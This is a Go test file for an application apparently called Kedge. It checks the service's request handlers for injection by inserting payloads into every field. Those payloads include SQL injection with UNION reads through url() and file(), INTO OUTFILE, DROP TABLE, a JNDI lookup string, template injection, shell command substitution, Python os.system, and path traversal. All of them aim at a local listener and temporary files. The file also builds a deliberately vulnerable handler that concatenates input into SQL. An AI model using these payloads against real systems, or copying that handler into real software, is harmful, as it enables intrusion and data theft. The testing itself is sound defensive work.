package app

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/kedge-ml/kedge/internal/testenv"
	"github.com/kedge-ml/kedge/store/chdb"
)

// The attacks send one payload in the place of every text of requests that are
// otherwise good. Their effect would be seen: a word of the payload outside of
// a literal in what the engine is told, a connection to a port that nobody has
// a reason to call, a file, or the content of a file in an answer. Each class
// first has its effect on a handler that is open on purpose.

// pwn is in every payload, and in nothing else.
const pwn = "kedgepwn"

// prey is what attacks would reach.
type prey struct {
	port   net.Listener // nobody has a reason to call it
	calls  atomic.Int64
	secret string // a file whose content nobody has a reason to show
	made   string // a file that nobody has a reason to make

	mu      sync.Mutex
	escaped []string // statements with a payload outside of a literal, or with an odd quote
	said    int      // statements that had the payload at all
	all     int
}

const secretText = "prey-content-7c1f"

func newPrey(t *testing.T) *prey {
	t.Helper()
	dir := t.TempDir()
	p := &prey{secret: filepath.Join(dir, "secret.txt"), made: filepath.Join(dir, "made.txt")}
	if err := os.WriteFile(p.secret, []byte(secretText+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var err error
	if p.port, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	go func() {
		for {
			c, err := p.port.Accept()
			if err != nil {
				return
			}
			p.calls.Add(1)
			_, _ = io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
			c.Close()
		}
	}()
	t.Cleanup(func() { p.port.Close() })
	return p
}

// told is the query log: libchdb keeps none, so it listens where texts enter
// the engine.
func (p *prey) told(sql string) {
	out, whole := outside(sql)
	p.mu.Lock()
	defer p.mu.Unlock()
	p.all++
	if strings.Contains(sql, pwn) {
		p.said++
	}
	if !whole || strings.Contains(out, pwn) {
		p.escaped = append(p.escaped, sql)
	}
}

func (p *prey) escapes() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return slices.Clone(p.escaped)
}

func (p *prey) fileMade() bool {
	_, err := os.Stat(p.made)
	return err == nil
}

// outside is a statement without its string literals and quoted names, as the
// engine's lexer finds them; whole is false when a quote is left open. Comments
// stay: Kedge writes none.
func outside(sql string) (rest string, whole bool) {
	var out strings.Builder
	for i := 0; i < len(sql); i++ {
		q := sql[i]
		if q != '\'' && q != '`' && q != '"' {
			out.WriteByte(q)
			continue
		}
		for i++; ; i++ {
			if i >= len(sql) {
				return out.String(), false
			}
			if sql[i] == '\\' {
				i++
			} else if sql[i] == q {
				if i+1 >= len(sql) || sql[i+1] != q {
					break
				}
				i++
			}
		}
		out.WriteByte(' ')
	}
	return out.String(), true
}

func TestOutside(t *testing.T) {
	for sql, want := range map[string]string{
		`a 'kedgepwn' b`: "a   b", `a 'x\' kedgepwn' b`: "a   b", `a 'x'' kedgepwn' b`: "a   b", "a `x`` kedgepwn` b": "a   b", "a `x\\` kedgepwn` b": "a   b",
		`a 'x' kedgepwn 'y'`: "a   kedgepwn  ", `a 'x\\' kedgepwn 'y'`: "a   kedgepwn  ", `a "'" kedgepwn`: "a   kedgepwn",
	} {
		if got, whole := outside(sql); got != want || !whole {
			t.Errorf("%s: %q, %v", sql, got, whole)
		}
	}
	if _, whole := outside(`a 'b`); whole {
		t.Error("an open quote is not seen")
	}
}

// payloads are what is written into texts; each has [pwn] in it.
func (p *prey) payloads() []string {
	at, secret, made := p.port.Addr().String(), p.secret, p.made
	return []string{
		`' OR kedgepwn() = 1 -- `,
		`' UNION ALL SELECT concat('kedgepwn', a) FROM url('http://` + at + `/kedgepwn', 'CSV', 'a String') -- `,
		`' UNION ALL SELECT concat('kedgepwn', line) FROM file('` + secret + `', 'LineAsString', 'line String') -- `,
		`\' OR kedgepwn() = 1 -- `,
		`\\' OR kedgepwn() = 1 -- `,
		`x'; DROP TABLE kedgepwn; -- `,
		"` FROM system.one WHERE kedgepwn() -- ",
		"\\` FROM system.one WHERE kedgepwn() -- ",
		`" OR kedgepwn() -- `,
		`1) OR kedgepwn() OR (1`,
		`') INTO OUTFILE '` + made + `' -- kedgepwn`,
		`{kedgepwn:Identifier}`,
		`kedgepwn\`,
		`*/ kedgepwn() /*`,
		"kedgepwn\x00' OR kedgepwn() -- ",
		`’ OR kedgepwn() -- `,
		`$kedgepwn$ OR 1 $kedgepwn$`,
		// other languages
		`${jndi:ldap://` + at + `/kedgepwn}`,
		`{{ kedgepwn.__class__.__mro__[1].__subclasses__() }}`,
		`$(cat ` + secret + ` > ` + made + `) kedgepwn`,
		"`touch " + made + "` kedgepwn",
		`__import__("os").system("touch ` + made + `") or kedgepwn`,
		`kedgepwn"][0]; fetch("http://` + at + `") //`,
		`http://` + at + `/kedgepwn`,
		`file://` + secret + `?kedgepwn`,
		`../../../../../../../..` + secret + `#kedgepwn`,
	}
}

// mark says where within a text the payload goes; a text without one is
// replaced whole.
const mark = "§"

// hole is one text of a request, and how to fill it.
type hole struct {
	where string
	fill  func(text string) ([]byte, error)
}

// holes finds every text and every member's name of a JSON body.
func holes(t *testing.T, body string) (out []hole) {
	t.Helper()
	var doc any
	if err := json.Unmarshal([]byte(body), &doc); err != nil {
		t.Fatalf("%s: %v", body, err)
	}
	var walk func(v any, where string, put func(any))
	encoded := func() ([]byte, error) { return json.Marshal(doc) }
	walk = func(v any, where string, put func(any)) {
		switch v := v.(type) {
		case string:
			out = append(out, hole{where, func(text string) ([]byte, error) {
				defer put(strings.ReplaceAll(v, mark, ""))
				if strings.Contains(v, mark) {
					put(strings.ReplaceAll(v, mark, text))
				} else {
					put(text)
				}
				return encoded()
			}})
			put(strings.ReplaceAll(v, mark, ""))
		case []any:
			for i := range v {
				walk(v[i], fmt.Sprintf("%s[%d]", where, i), func(x any) { v[i] = x })
			}
		case map[string]any:
			for name := range v {
				out = append(out, hole{where + "." + name + " (the name)", func(text string) ([]byte, error) {
					was := v[name]
					delete(v, name)
					v[text] = was
					defer func() { delete(v, text); v[name] = was }()
					return encoded()
				}})
				walk(v[name], where+"."+name, func(x any) { v[name] = x })
			}
		}
	}
	walk(doc, "", func(x any) { doc = x })
	return out
}

// target is a good request; the payloads go into its texts, its path and its
// query.
type target struct {
	method, path, media, body string
}

// share is how many payloads out of so many a text gets beside the ones that
// every text gets; over all texts each payload has its turn. KEDGE_TORTURE
// sends all to all.
const share = 8

func (p *prey) payloadsFor(n int) (out []string) {
	for i, payload := range p.payloads() {
		if i == 0 || i == 3 || (i+n)%share == 0 || os.Getenv("KEDGE_TORTURE") != "" {
			out = append(out, payload)
		}
	}
	return out
}

// attack sends payloads in every text of the targets and returns how many
// requests that were, and the faults of the answers.
func (r *running) attack(t *testing.T, p *prey, admin string, targets []target) (sent int, faults []string) {
	good, texts := 0, 0
	send := func(where, method, path, media, body string) {
		sent++
		status, text := r.callAt("http://"+r.Addr(), method, path, body, "Authorization", "Bearer "+admin, "Content-Type", media)
		if where == "" && status < 300 {
			good++
		}
		if status >= 500 && status != http.StatusServiceUnavailable || strings.Contains(text, secretText) {
			faults = append(faults, fmt.Sprintf("%s %s, %s: %d %.300s\n%.600s", method, path, where, status, text, body))
		}
	}
	for _, g := range targets {
		if strings.Contains(g.path, mark) {
			for _, payload := range p.payloads() {
				escape := url.QueryEscape
				if at := strings.IndexByte(g.path, '?'); at < 0 || at > strings.Index(g.path, mark) {
					escape = url.PathEscape
				}
				send("in the path", g.method, strings.ReplaceAll(g.path, mark, escape(payload)), g.media, g.body)
			}
			continue
		}
		send("", g.method, g.path, g.media, strings.ReplaceAll(g.body, mark, ""))
		for _, h := range holes(t, g.body) {
			texts++
			for _, payload := range p.payloadsFor(texts) {
				body, err := h.fill(payload)
				if err != nil {
					t.Fatal(err)
				}
				send(h.where, g.method, g.path, g.media, string(body))
			}
		}
	}
	t.Logf("%d texts in %d bodies, %d of which are good without a payload", texts, len(targets), good)
	return sent, faults
}

// openHandler is what none of Kedge's handlers may be: it puts a request's text
// into SQL.
func openHandler(db *chdb.DB) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var said bytes.Buffer
		err := db.Query(r.Context(), chdb.Statement{SQL: "SELECT name FROM definitions WHERE name = '" + r.FormValue("name") + "'"}, "TabSeparated", func(b []byte) error {
			said.Write(b)
			return nil
		})
		if err != nil {
			fmt.Fprint(&said, err)
		}
		_, _ = w.Write(said.Bytes())
	})
}

// TestInjection: no text of any request becomes SQL, an expression's code, a
// connection or a file.
func TestInjection(t *testing.T) {
	p := newPrey(t)
	r := startWatched(t, func(c *Config) { c.Auth.Enabled, c.Namespace = true, "alpha" }, p.told)
	admin := r.adminKey()
	plant(t, r, admin)
	r.deployOracle(t, admin)

	begun := time.Now()
	sent, faults := r.attack(t, p, admin, slices.Concat(queryTargets(), definitionTargets(), featureTargets(), servingTargets(), mlflowTargets(), otherTargets()))
	for _, f := range faults[:min(len(faults), 20)] {
		t.Error(f)
	}
	r.awaitIngest(t, admin)
	if found := p.escapes(); len(found) > 0 {
		t.Errorf("%d statements have a payload outside of a literal; the first: %.1000s", len(found), found[0])
	}
	if n := p.calls.Load(); n > 0 || p.fileMade() {
		t.Errorf("%d connections were made; a file was made: %v", n, p.fileMade())
	}
	if sent < 1000 || p.said == 0 {
		t.Errorf("%d payloads, %d statements with one in a literal: the attacks do not reach the engine", sent, p.said)
	}
	t.Logf("%d payloads, %d faults, %d of %d statements had one in a literal; %v", sent, len(faults), p.said, p.all, time.Since(begun).Round(time.Millisecond))

	// the same eyes, an open handler
	open := httptest.NewServer(openHandler(r.store.Embedded()))
	defer open.Close()
	shown := false
	for _, payload := range p.payloads() {
		_, text := r.callAt(open.URL, "GET", "/?name="+url.QueryEscape(payload), "")
		shown = shown || strings.Contains(text, secretText)
	}
	if found := p.escapes(); len(found) < 5 || !shown || p.calls.Load() == 0 {
		t.Errorf("the attacks are blind: through an open handler %d statements are seen, %d connections, a file's content: %v", len(found), p.calls.Load(), shown)
	}
}

// deployOracle trains a small model and serves it, so that requests for
// predictions get as far as a prediction.
func (r *running) deployOracle(t *testing.T, admin string) {
	t.Helper()
	var rows strings.Builder
	rows.WriteString("n,m,y\n")
	for i := range 300 {
		fmt.Fprintf(&rows, "%d,%d,%d\n", i%17, i%5, i%17/9)
	}
	file := filepath.Join(t.TempDir(), "rows.csv")
	if err := os.WriteFile(file, []byte(rows.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	train := TrainFile{Path: file, Name: "oracle", Label: "y", Start: "2026-01-01T00:00:00Z", Step: time.Minute, Backend: "linear", Artifacts: filepath.Join(r.cfg.DataDir, artifactsDir)}
	digest, err := train.Train(t.Context(), io.Discard, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	body := fmt.Sprintf(`{"kind":"Deployment","name":"oracle","spec":{"versions":[{"version":"1","artifact":%q}],"champion":"1"}}`, digest)
	if status, text := r.call("POST", "/v1/definitions", body, "Authorization", "Bearer "+admin); status != 200 {
		t.Fatalf("deploy: %d %s", status, text)
	}
	testenv.Eventually(t, time.Minute, func() error {
		if status, text := r.call("POST", "/v1/predict/oracle", `{"id":"p","data":{"n":1,"m":2}}`, "Authorization", "Bearer "+admin); status != 200 {
			return fmt.Errorf("predict: %d %s", status, text)
		}
		return nil
	})
}

// awaitIngest waits until an event that is sent now is stored: what was sent
// before has been through the decoder and the engine then.
func (r *running) awaitIngest(t *testing.T, admin string) {
	t.Helper()
	as := []string{"Authorization", "Bearer " + admin}
	if status, text := r.call("POST", "/v1/events", `{"view":"last","key":{"id":"k"},"event_time":"`+time.Now().UTC().Format(time.RFC3339)+`","values":{"n":1}}`, append(as, "Content-Type", "application/x-ndjson")...); status != 200 {
		t.Fatalf("send: %d %s", status, text)
	}
	testenv.Eventually(t, time.Minute, func() error {
		if status, text := r.call("POST", "/v1/query", `{"kind":"rows","view":"last"}`, as...); status != 200 || !strings.Contains(text, `"k"`) {
			return fmt.Errorf("rows: %d %s", status, text)
		}
		return nil
	})
}
